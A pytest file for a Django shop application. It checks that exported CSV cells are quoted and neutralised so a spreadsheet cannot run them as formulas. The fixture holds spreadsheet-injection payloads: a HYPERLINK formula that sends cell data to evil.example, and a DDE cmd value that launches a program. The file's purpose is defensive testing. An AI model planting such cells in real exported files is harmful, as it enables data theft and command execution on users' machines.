"""Exported cells a spreadsheet could run as formulas (issue 13, hole 13).

A spreadsheet set to ``;`` as its list separator (usual where ``,`` is the
decimal separator) may split an unquoted cell such as ``x;=HYPERLINK(…)``
from a comma-separated file and run its second part. Cells holding either
separator are now quoted, and a formula trigger after a separator inside a
cell is neutralised as one at its start is; the import still gives every
value back exactly.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st

from shop_manager.models import Product, ProductEvent
from shop_manager.transfer.cells import FORMULA_STARTS, csv_line, neutralise, restore
from tests.helpers.transfer import upload

pytestmark = pytest.mark.django_db

EXPORT = reverse("shop_manager:product-export")
IMPORT = reverse("shop_manager:product-import")
HOSTILE = {
    "name": 'Tea;=HYPERLINK("http://evil.example/?"&A1)',
    "description": "nice, @SUM(A1:A9); +1; -2,\t=3",
    "supplier_number": "x ;  =cmd|'/c calc'!A0",
}


def runs_as_formula(cell: str) -> bool:
    return cell.lstrip(" ")[:1] in FORMULA_STARTS


def exported_text(client: Client) -> str:
    response = client.get(EXPORT)
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8-sig")


def test_no_split_of_an_exported_line_starts_a_formula(
    staff_client: Client, make_product: Any
) -> None:
    make_product(sku="T-1", **HOSTILE)
    text = exported_text(staff_client)
    line = text.splitlines()[1]
    # A spreadsheet reading the file with either delimiter, quotes honoured:
    for delimiter in ",;":
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            assert not any(runs_as_formula(cell) for cell in row), (delimiter, row)
    # And one that splits at every separator, quotes or not:
    for piece in re.split(r"[,;]", line):
        assert not runs_as_formula(piece.strip('"')), piece
    # Every cell holding a separator is quoted, so neither reader splits it.
    assert '"Tea;\'=HYPERLINK(""http://evil.example/?""&A1)"' in line


def test_the_hostile_cells_survive_an_export_and_import_unchanged(
    staff_client: Client, make_product: Any
) -> None:
    make_product(sku="T-1", **HOSTILE)
    text = exported_text(staff_client)
    events = ProductEvent.objects.count()
    preview = staff_client.post(IMPORT, {"file": upload(text.encode())})
    assert preview.context["plan"].counts["unchanged"] == 1
    assert ProductEvent.objects.count() == events
    assert Product.objects.filter(**HOSTILE).exists()


any_text = st.text(alphabet=st.sampled_from("=+-@\t\r'\",; ax\n"), max_size=20)


@settings(max_examples=1000)
@given(any_text)
def test_neutralising_is_undone_exactly(text: str) -> None:
    assert restore(neutralise(text)) == text


@settings(max_examples=1000)
@given(any_text)
def test_no_segment_of_a_neutralised_cell_starts_a_formula(text: str) -> None:
    for piece in re.split(r"[,;]", neutralise(text)):
        assert not runs_as_formula(piece)


@given(st.lists(any_text, min_size=2, max_size=5))
def test_a_written_line_reads_back_as_it_was_written(cells: list[str]) -> None:
    assert next(csv.reader(io.StringIO(csv_line(cells), newline=""))) == cells


@given(any_text)
def test_a_cell_holding_either_separator_is_quoted(cell: str) -> None:
    if ";" in cell or "," in cell:
        assert csv_line([cell, ""]).startswith('"')
